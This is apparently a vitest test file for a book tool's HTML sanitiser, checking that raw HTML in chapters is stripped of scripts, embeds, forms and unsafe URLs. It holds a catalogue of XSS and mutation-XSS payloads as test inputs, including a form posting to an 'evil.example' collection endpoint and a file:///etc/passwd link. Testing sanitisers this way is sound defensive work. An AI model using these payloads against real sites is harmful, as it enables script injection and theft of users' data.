// Hostile raw HTML: each removal is a warning at its line and column, and nothing that can run or fetch survives.
import type {Element, Root} from 'hast'
import {visit} from 'unist-util-visit'
import {describe, expect, it} from 'vitest'
import {project, runBook} from './harness.js'
import type {RunResult} from '../../src/pipeline.js'

/** Only the sanitiser's warnings, as `line:column reason`. */
function removals(result: RunResult): string[] {
  return result.files.flatMap((file) =>
    file.messages.filter((message) => message.ruleId === 'security/html-removed').map((message) => `${message.line}:${message.column} ${message.reason}`)
  )
}

/** Everything in a tree that could run script, fetch, navigate or style from outside. */
function dangerousIn(tree: Root): string[] {
  const found: string[] = []
  const banned = /^(script|style|iframe|frame|frameset|object|embed|applet|form|input|button|link|meta|base|svg|math|template|noscript|video|audio|source|portal)$/
  visit(tree, 'element', (node: Element) => {
    if (banned.test(node.tagName) && !(node.tagName === 'input' && node.properties['type'] === 'checkbox')) found.push(`<${node.tagName}>`)
    for (const [name, value] of Object.entries(node.properties)) {
      const text = String(value)
      if (/^on/i.test(name) || name === 'style' || name === 'srcSet' || name === 'formAction' || name === 'action') found.push(`${node.tagName}.${name}`)
      if (/^(href|src|cite|longDesc|poster|xLinkHref)$/.test(name) && /^\s*[a-z][a-z\d+.\s-]*:/i.test(text) && !/^(https?|mailto|tel):|^data:image\/(png|jpeg|gif|webp)[;,]/i.test(text)) {
        found.push(`${node.tagName}.${name}=${text.slice(0, 30)}`)
      }
    }
  })
  return found
}

async function chapterWith(body: string): Promise<RunResult> {
  const {manuscript} = project({'01-start.md': `# Start\n\n${body}\n`})
  return runBook(manuscript)
}

const scriptsAway = 'books cannot run scripts'
const embedsAway = 'books cannot embed other pages or plugins'
const formsAway = 'books have no forms'
const headAway = "a book's styles and metadata come from Colophon and `book.yaml`"
const urlRule = 'images must be files in the manuscript and links http, https, mailto or tel'

describe('raw HTML removals are warnings at their place', () => {
  const cases: Array<{name: string; html: string; expected: string[]}> = [
    {name: 'a script element', html: '<script>alert(1)</script>', expected: [`3:1 Removed \`<script>\` element and its content from raw HTML; ${scriptsAway}`]},
    {name: 'an event handler', html: 'Text <span onclick="steal()">here</span>.', expected: ['3:6 Removed event handler `onclick` from `<span>`; books cannot run scripts']},
    {name: 'an iframe', html: '<iframe src="https://example.com"></iframe>', expected: [`3:1 Removed \`<iframe>\` element and its content from raw HTML; ${embedsAway}`]},
    {
      name: 'object and embed',
      html: '<object data="x.swf"></object>\n<embed src="y.swf">',
      expected: [`3:1 Removed \`<object>\` element (its content kept) from raw HTML; ${embedsAway}`, `4:1 Removed \`<embed>\` element (its content kept) from raw HTML; ${embedsAway}`]
    },
    {
      name: 'a form with a field',
      html: '<form action="https://evil.example/collect"><input name="q"></form>',
      expected: [`3:1 Removed \`<form>\` element (its content kept) from raw HTML; ${formsAway}`, `3:45 Removed \`<input>\` element (its content kept) from raw HTML; ${formsAway}`]
    },
    {name: 'a javascript: link', html: 'See [this](javascript:alert(1)).', expected: [`3:5 Removed \`javascript:\` URL from \`href\` of \`<a>\`; ${urlRule}`]},
    {name: 'a vbscript: link in raw HTML', html: '<a href="vbscript:msgbox(1)">x</a>', expected: [`3:1 Removed \`vbscript:\` URL from \`href\` of \`<a>\`; ${urlRule}`]},
    {
      name: 'an entity-obfuscated javascript: URL',
      html: '<a href="jav&#x09;ascript:alert(1)">x</a>',
      expected: [`3:1 Removed \`javascript:\` URL from \`href\` of \`<a>\`; ${urlRule}`]
    },
    {
      name: 'a data: URL that is not an image',
      html: '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a> <img src="data:text/html,<script>" alt="">',
      expected: [
        `3:1 Removed \`data:\` URL that is not a PNG, JPEG, GIF or WebP image from \`href\` of \`<a>\`; ${urlRule}`,
        `3:52 Removed \`data:\` URL that is not a PNG, JPEG, GIF or WebP image from \`src\` of \`<img>\`; ${urlRule}`
      ]
    },
    {
      name: 'an SVG data: image, which could carry script',
      html: '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="">',
      expected: [`3:1 Removed \`data:\` URL that is not a PNG, JPEG, GIF or WebP image from \`src\` of \`<img>\`; ${urlRule}`]
    },
    {
      name: 'a style element with url() and a style attribute',
      html: '<style>@import url(http://127.0.0.1/x.css); p { background: url(http://127.0.0.1/y.png) }</style>\n<p style="background: url(http://127.0.0.1/z.png)">x</p>',
      expected: [`3:1 Removed \`<style>\` element and its content from raw HTML; ${headAway}`, '4:1 Removed attribute `style` from `<p>`; it is not allowed in books']
    },
    {
      name: 'link, meta refresh and base',
      html: '<link rel="stylesheet" href="http://127.0.0.1/s.css">\n<meta http-equiv="refresh" content="0;url=http://127.0.0.1/">\n<base href="http://127.0.0.1/">',
      expected: [`3:1 Removed \`<link>\` element (its content kept) from raw HTML; ${headAway}`, `4:1 Removed \`<meta>\` element (its content kept) from raw HTML; ${headAway}`, `5:1 Removed \`<base>\` element (its content kept) from raw HTML; ${headAway}`]
    },
    {
      // Kept as a name for \`colophon fetch-images\`: the transform leaves it out of the outputs (image/outside-manuscript).
      name: 'a remote image',
      html: '<img src="http://127.0.0.1:9/x.png" alt="x">',
      expected: []
    },
    {
      name: 'a remote image on another scheme',
      html: '<img src="ftp://127.0.0.1:9/x.png" alt="x">',
      expected: [`3:1 Removed \`ftp:\` URL from \`src\` of \`<img>\`; ${urlRule}`]
    }
  ]

  for (const testCase of cases) {
    it(`warns about ${testCase.name}`, async () => {
      const result = await chapterWith(testCase.html)
      expect(removals(result)).toEqual(testCase.expected)
      for (const chapter of result.book?.chapters ?? []) expect(dangerousIn(chapter.hast)).toEqual([])
    })
  }

  it('keeps what books need without a warning', async () => {
    const result = await chapterWith('<abbr title="World Health Organization">WHO</abbr> <mark>x</mark> <sup>1</sup> <a href="https://example.com">y</a>\n\n- [x] done\n\nNote[^1]\n\n[^1]: A footnote.')
    expect(removals(result)).toEqual([])
    expect(result.code).toBe(0)
  })
})

describe('nothing dangerous survives sanitising', () => {
  it('strips a catalogue of script, fetch and mutation-XSS vectors', async () => {
    const vectors = [
      '<ScRiPt>alert(1)</sCrIpT>',
      '<img src=x onerror=alert(1) alt="">',
      '<svg onload=alert(1)><script>alert(2)</script><foreignObject><iframe src="https://x"></iframe></foreignObject><use href="http://127.0.0.1/s.svg#a"/></svg>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(3)></style></mglyph></table></mtext></math>',
      '<a href=" javascript:alert(4)">a</a> <a href="JaVaScRiPt:alert(5)">b</a> <a href="file:///etc/passwd">c</a>',
      '<iframe srcdoc="<script>alert(6)</script>"></iframe>',
      '<form><button formaction="javascript:alert(7)">go</button></form>',
      '<input type="image" src="http://127.0.0.1/i.png">',
      '<video poster="http://127.0.0.1/p.png"><source src="http://127.0.0.1/v.mp4"></video> <audio src="http://127.0.0.1/a.mp3"></audio>',
      '<img srcset="http://127.0.0.1/1.png 1x" alt=""> <img src="//127.0.0.1/proto-relative.png" alt="">',
      '<template><script>alert(8)</script></template> <noscript><img src=x onerror=alert(9)></noscript>',
      '<div style="background:url(javascript:alert(10))">d</div> <blockquote cite="javascript:alert(11)">q</blockquote>',
      '<details open ontoggle=alert(12)><summary>s</summary></details>',
      '<a href="data:text/html,<script>alert(13)</script>">e</a> <object data="data:text/html,x"></object> <embed src="javascript:alert(14)">',
      '<xmp><script>alert(15)</script></xmp> <portal src="https://x"></portal> <applet code="x"></applet> <frameset><frame src="x"></frameset>'
    ]
    const result = await chapterWith(vectors.join('\n\n'))
    const hast = result.book?.chapters[0]?.hast
    expect(hast).toBeDefined()
    expect(dangerousIn(hast as Root)).toEqual([])
    // Every vector produced at least one warning on its own line (vectors sit on lines 3, 5, 7…).
    const lines = new Set(removals(result).map((text) => Number(text.split(':')[0])))
    expect(vectors.map((_, index) => lines.has(3 + 2 * index))).toEqual(vectors.map(() => true))
  })
})
